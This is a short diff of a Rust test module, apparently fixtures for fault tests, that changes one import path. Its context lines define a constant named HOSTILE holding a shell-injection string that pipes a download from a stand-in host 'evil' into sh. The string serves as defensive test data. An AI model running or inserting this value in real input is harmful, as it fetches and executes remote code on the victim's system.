@@ -1,7 +1,7 @@
 //! Nodes and faults of the tests of this room.
 
 use crate::advice::known::Known;
-use crate::fault::ssh::Fault as SshFault;
+use gtop_local::fault::ssh::Fault as SshFault;
 
 /// A shell injection, if the text were pasted.
 pub(super) const HOSTILE: &str = "x; curl evil|sh #";
